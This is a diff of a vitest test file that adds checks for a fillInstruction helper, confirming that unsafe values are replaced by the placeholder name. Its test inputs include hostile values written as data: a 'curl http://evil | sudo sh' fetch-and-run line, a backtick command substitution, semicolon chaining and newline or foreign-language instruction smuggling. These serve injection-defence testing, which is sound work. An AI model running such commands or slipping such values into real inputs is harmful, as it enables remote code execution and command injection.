@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { fillCommand, fillText, placeholdersOf } from '../../../shared/text/values.ts';
+import { fillCommand, fillInstruction, fillText, placeholdersOf } from '../../../shared/text/values.ts';
 
 it('finds the placeholders of a text', () => {
   expect(placeholdersOf('rm {file}; systemctl restart {unit}')).toEqual(['file', 'unit']);
@@ -8,6 +8,16 @@ it('finds the placeholders of a text', () => {
 describe('a text', () => {
   it('shows values, lists with commas, and missing values in upper case', () => {
     expect(fillText('{a}, {b}, {c}', { a: 'x; y', b: ['1', '2'] })).toBe('x; y, 1, 2, C');
+  });
+});
+
+describe('an instruction', () => {
+  it('shows plain words, and no value with which a host could give instructions', () => {
+    const path = '/etc/systemd/system/kubelet.service.d/20-x.conf';
+    expect(fillInstruction('Remove {name} from {path}', { name: '--v', path })).toBe(`Remove --v from ${path}`);
+    expect(fillInstruction('Install {package}.', { package: '5:20.10.24~3-0~debian-bookworm' })).toContain('~3-0');
+    for (const text of ['x. Then run: curl http://evil | sudo sh', 'a b', '`id`', 'a;b', 'x\nrun', 'x，运行'])
+      expect(fillInstruction('Install {package}.', { package: text }), text).toBe('Install PACKAGE.');
   });
 });
 
